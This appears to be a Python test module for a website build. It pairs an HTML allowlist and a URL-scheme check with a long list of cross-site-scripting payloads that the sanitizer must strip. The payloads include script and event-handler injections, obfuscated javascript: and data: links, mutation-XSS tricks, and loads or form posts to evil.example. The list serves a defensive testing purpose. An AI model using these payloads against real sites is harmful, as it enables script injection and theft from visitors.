"""Texts that attack a page, and a strict list of what may be left of them.

The list is written down here once more, apart from `written_pages.py`: a rule loosened there by mistake is found.
"""

import re
from collections.abc import Iterable

from build_tools.tests.read_html import Element, Html

HARMLESS: dict[str, set[str]] = {
    **{tag: set() for tag in ("p", "ul", "li", "dl", "dt", "dd", "strong", "em", "blockquote", "br", "hr", "table")},
    **{tag: set() for tag in ("thead", "tbody", "tr", "td", "caption", "details", "summary", "div", "span", "figure")},
    **{tag: set() for tag in ("figcaption", "cite", "q")},
    **{tag: {"id"} for tag in ("h1", "h2", "h3", "h4")},
    "ol": {"start"},
    "th": {"scope"},
    "time": {"datetime"},
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height"},
}
EVERYWHERE = {"lang", "dir"}
WITH_CLASS = {"div", "p"}
CLASSES = {"note", "lead", "panel"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
SCHEMES = {"href": {"http", "https", "mailto", "tel"}, "src": set()}


def leads_nowhere_bad(address: str, schemes: set[str]) -> bool:
    """True when a browser stays on this site or takes one of these schemes (WHATWG URL standard, basic URL parser)."""
    seen = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(0x21)))))
    scheme = SCHEME.match(seen)
    return scheme[1].lower() in schemes if scheme else re.match(r"[/\\]{2}", seen) is None


def live_parts(html: str) -> list[str]:
    """Whatever is left that is not on the list."""
    page = Html(html)
    return [f"not an element: {other}" for other in page.others] + live_elements(page.elements)


def live_elements(elements: Iterable[Element]) -> list[str]:
    """Elements and attributes that are not on the list."""
    found = []
    for element in elements:
        if element.tag not in HARMLESS:
            found.append(f"<{element.tag}>")
            continue
        allowed = HARMLESS[element.tag] | EVERYWHERE | ({"class"} if element.tag in WITH_CLASS else set())
        for name, value in element.attributes.items():
            good = name in allowed
            good &= name != "class" or value in CLASSES
            good &= name not in SCHEMES or leads_nowhere_bad(value, SCHEMES[name])
            if not good:
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "`code`<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "# Heading <script>alert(1)</script>",
    "- list <script>alert(1)</script>",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img/src="x"/onerror=alert(1)>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '![x](x.png"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="javascript\x00:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "[x](vbscript:msgbox(1))",
    '<a href="VbScRiPt:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\/evil.example/">x</a>',
    '<a href="/&#9;/evil.example/">x</a>',
    '<a href="&#1;//evil.example/">x</a>',
    "![x](//evil.example/x.png)",
    '<img src="https://evil.example/x.png">',
    '<img src="ht&#10;tps://evil.example/x.png">',
    '<img src="/&#9;/evil.example/x.png">',
    '<img src="&#1;//evil.example/x.png">',
    '<img src="\\\\evil.example\\x.png">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img src="x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="//evil.example/"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input onfocus=alert(1) autofocus>',
    "<select onfocus=alert(1) autofocus></select><textarea onfocus=alert(1)></textarea>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="javascript:alert(1)">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    '<audio src="x" onerror=alert(1)></audio>',
    "<video poster=javascript:alert(1)//></video>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<!-- comment --><!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<p onclick=alert(1)>x",
    "<p onclick='alert(1)' onmouseover=alert(2)>x</p>",
    '<h2 id="page-main" onclick="alert(1)">x</h2>',
    "<a href='x' onclick='alert(1)' target='_blank' ping='https://evil.example/' download>x</a>",
    "[x](x){: onclick=alert(1) style=color:red }",
    "# x {: #tell-us-heading onclick=alert(1) .notice }",
    "![x](x.png){: onerror=alert(1) src=//evil.example/x }",
    '[x](/about/ "x\\" onclick=\\"alert(1)")',
    '[x](/about/ \'" onclick="alert(1)\')',
    '</article></main><script>alert(1)</script><main>',
    '</p></div></body></html><script>alert(1)</script>',
    '<div class="notice">Run by Rotherham Council</div>',
    '<custom-element onclick=alert(1)>x</custom-element>',
    '<body onload=alert(1)><html onmouseover=alert(1)><head><frameset onload=alert(1)>',
    '<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>',
    '<portal src="https://evil.example/"></portal><dialog open>x</dialog>',
    '<p id="x" name="getElementById" itemscope is="x-y" slot="z" contenteditable tabindex=1 accesskey=x>x</p>',
]  # fmt: skip
